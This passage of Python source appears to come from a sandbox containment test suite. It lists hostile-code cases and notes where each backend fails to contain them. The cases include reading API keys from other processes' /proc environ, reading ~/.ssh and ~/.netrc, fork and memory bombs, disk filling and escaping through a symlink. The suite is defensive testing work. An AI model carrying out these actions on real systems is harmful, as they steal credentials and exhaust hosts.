    Case("tcp-connect", "TCP connection to a loopback server the suite started", _tcp_connect, _NETWORK_GAP),
    Case("dns-lookup", "DNS query to a loopback resolver the suite started", _dns_lookup, _NETWORK_GAP),
    Case(
        "write-home",
        "write a file into the user's home directory",
        _write_outside(lambda t: t.host.home),
        _WRITE_GAP,
    ),
    Case(
        "write-cwd",
        "write a file into the working directory (repository) of the host process",
        _write_outside(lambda t: t.host.cwd),
        _WRITE_GAP,
    ),
    Case("write-tmp", "write a file into /tmp outside the workspace", _write_outside(_host_tmp), _WRITE_GAP),
    Case(
        "symlink-escape",
        "symlink to a host file and directory, then read and write through it",
        _symlink_escape,
        _WRITE_GAP,
    ),
    Case(
        "env-secrets",
        "read API keys from the environment and from /proc/<pid>/environ of host processes",
        _env_secrets,
        "the environment is scrubbed, but /proc/<pid>/environ of this user's other processes (nemo-opt itself, "
        "started with the key exported) is readable",
    ),
    Case("config-files", "read ~/.config/nemo-opt, ~/.ssh, ~/.netrc and ./nemo.toml", _config_files, _READ_GAP),
    Case("fork-bomb", "fork without end", _fork_bomb),
    Case("memory-bomb", "allocate past the memory limit", _memory_bomb),
    Case(
        "many-processes-memory",
        f"{_MEMORY_PROCESSES} processes each holding {_MEMORY_SHARE:.0%} of the memory limit at once",
        _many_processes_memory,
    ),
    Case("cpu-spin", "spin on the CPU past the CPU limit", _cpu_spin),
    Case("sigterm-sleepers", "sleep past the timeout with children that ignore SIGTERM", _sleep_past_timeout),
    Case("setsid-daemon", "start daemons that try to outlive the run", _setsid_daemon),
    Case("stdout-flood", f"print {_FLOOD_MB} MB to stdout", _output_flood),
    Case("disk-fill", "fill the disk with many files", _fill_disk),
    Case(
        "deleted-file-disk",
        "write to workspace files deleted while open, past the disk quota",
        _deleted_files,
    ),
    Case("shm-fill", "fill /dev/shm past the memory limit", _shm_fill, _SHM_GAP),
    Case("sysv-shm", "fill SysV shared memory segments (shmget, shmat) past the memory limit", _sysv_shm, _SYSV_GAP),
    Case("memfd-fill", "write memfd files past the memory limit", _memfd_fill),
    Case(
        "userns-tmpfs",
        "unshare -rm, mount a tmpfs and fill it past the memory limit",
        _userns_tmpfs,
        _USERNS_GAP,
    ),
    Case(
        "write-outside-scope",
        "from a sandbox scoped to one folder, write to another folder and the workspace root",
        _write_outside_scope,
        _SCOPE_GAP,
    ),
)


def case_names() -> list[str]:
    return [case.name for case in CASES]


@functools.cache
def _host_makes_user_namespaces() -> bool:
    """Whether this user can create a user and mount namespace here, as ``unshare -rm`` does (probed once)."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return False
    try:
        done = subprocess.run([unshare, "-rm", "true"], stdin=subprocess.DEVNULL, capture_output=True, timeout=10)
    except (OSError, subprocess.SubprocessError):
        return False
    return done.returncode == 0


def _host_shm_room() -> int:
    """Bytes this user could store in the host's /dev/shm now (0 when there is none or it is not writable)."""
    if not os.access(_SHM_DIR, os.W_OK):
        return 0
    try:
        usage = os.statvfs(_SHM_DIR)
    except OSError:
        return 0
    return usage.f_bavail * usage.f_frsize


def known_gap(case: Case, backend: str) -> str | None:
    """Why ``backend`` cannot contain ``case`` on this machine (with its cgroups, namespaces and /dev/shm), or None
    when it should."""
    memory_cgroup = memory_cgroup_root() is not None
    if case.name == "fork-bomb":
        return _root_without_cgroup_gap()
    if case.name == "setsid-daemon" and pids_cgroup_root() is None and backend == "plain":
        return "without a pids cgroup, a daemon that calls setsid and drops its environment escapes the group kill"
    if case.name == "userns-tmpfs":
        if backend == "bwrap" and not disables_userns(shutil.which("bwrap") or "bwrap"):
            return "this bwrap cannot forbid user namespaces inside the sandbox (--disable-userns needs bwrap 0.8.0)"
        if backend == "plain" and (memory_cgroup or not _host_makes_user_namespaces()):
            # The memory cgroup is charged for the private tmpfs, which goes with the command's mount namespace;
            # or the host itself refuses unshare -rm.
            return None
    if case.name == "shm-fill" and backend == "plain" and _host_shm_room() == 0:
        return None  # the host's /dev/shm takes nothing
    if case.name == "sysv-shm" and backend == "plain":
        # With shm_rmid_forced a segment goes when it is detached (this case detaches each one at once).
        return None if _shm_rmid_forced() else case.plain_gap
    if case.name in _MEMORY_GAPS and not memory_cgroup:
        return _MEMORY_GAPS[case.name]
    return case.plain_gap if backend == "plain" else None


def suite_limits(limits: Limits) -> Limits:
    """``limits`` shrunk so every case ends in seconds (the mechanisms checked are the same at any size)."""
    return replace(
        limits,
        timeout=min(limits.timeout, 6.0),
        cpu_seconds=min(limits.cpu_seconds, 3),
        memory_mb=min(limits.memory_mb, 512),
        max_processes=min(limits.max_processes, 64),
        max_output_mb=min(limits.max_output_mb, 16),
        disk_mb=min(limits.disk_mb, 64),
        file_size_mb=min(limits.file_size_mb, 64),
    )


def _run_case(case: Case, sandbox: SubprocessSandbox, host: HostPaths, timeout: float) -> CaseResult:
    folder = sandbox.workspace / f"hostile-{case.name}-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    trial = Trial(sandbox, folder, host, timeout)
    started = time.monotonic()
    try:
        verdict = case.check(trial)
    except NemoError as exc:  # the sandbox itself failed: nothing shows the code was held
        return CaseResult(case.name, False, f"sandbox error: {exc}", time.monotonic() - started, "not run")
    finally:
        _survivors(trial.mark)
        _survivors(trial.token)
        shutil.rmtree(folder, ignore_errors=True)
    seconds = time.monotonic() - started
    observation = verdict.result.describe()
    return CaseResult(case.name, verdict.contained, observation, seconds, verdict.evidence, verdict.result.limit_hit)


def run_suite(
    sandbox: SubprocessSandbox,
    names: Sequence[str] | None = None,
    *,
    host: HostPaths | None = None,
    timeout: float | None = None,
    on_result: Callable[[CaseResult], None] | None = None,
) -> list[CaseResult]:
    """Run the cases named ``names`` (all when None) through ``sandbox``, one after another.

    ``sandbox.workspace`` should be a scratch directory: each case works in a fresh folder inside it, deleted
    afterwards. ``timeout`` is the wall-clock limit of each command (default: the sandbox's own). ``on_result`` is
    called as each case finishes, so a terminal can show progress.
    """
    chosen = list(CASES) if names is None else [_case(name) for name in names]
    wall = timeout if timeout is not None else sandbox.limits.timeout
    results = []
    for case in chosen:
        result = _run_case(case, sandbox, host or HostPaths(), wall)
        results.append(result)
        if on_result is not None:
            on_result(result)
    return results


def _case(name: str) -> Case:
    for case in CASES:
        if case.name == name:
            return case
    raise ValueError(f"Unknown hostile-code case {name!r}; the cases are: {', '.join(case_names())}.")
